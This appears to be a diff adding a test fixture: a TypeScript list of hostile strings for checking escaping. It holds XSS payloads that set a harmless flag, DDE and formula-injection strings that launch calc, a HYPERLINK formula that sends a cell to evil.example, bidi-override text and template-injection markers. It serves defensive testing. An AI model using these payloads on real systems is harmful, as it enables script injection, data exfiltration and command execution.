@@ -1,0 +1,23 @@
+/** Texts that would do something where they are taken for markup, script, a formula or a template. */
+export const HOSTILE: readonly string[] = [
+	"<script>globalThis.attacked=1</script>",
+	'"><img src=x onerror="globalThis.attacked=1">',
+	"'><svg onload='globalThis.attacked=1'>",
+	'</script><script type="module">globalThis.attacked=1</script>',
+	"</textarea></title></style><iframe srcdoc='<script>parent.attacked=1</script>'>",
+	"--><a href=javascript:globalThis.attacked=1>x</a><!--",
+	"]]><script>globalThis.attacked=1</script>",
+	'" onfocus="globalThis.attacked=1" autofocus="',
+	"<ScRiPt/x>globalThis.attacked=1</ScRiPt >",
+	"<math><mtext></p><style><img src=x onerror=globalThis.attacked=1>",
+	"&lt;img src=x onerror=globalThis.attacked=1&gt;",
+	'=HYPERLINK("https://evil.example?x="&A1,"a")',
+	"@SUM(1+1)*cmd|' /C calc'!A0",
+	"+1+cmd|' /C calc'!A0",
+	"-2+3+cmd|' /C calc'!A0",
+	"\t=1+1",
+	"＝1+1",
+	"a\u2028b\u2029globalThis.attacked=1",
+	"\u202eevil\u202c",
+	"#{globalThis.attacked=1} {{attacked}} <%= attacked %>",
+];
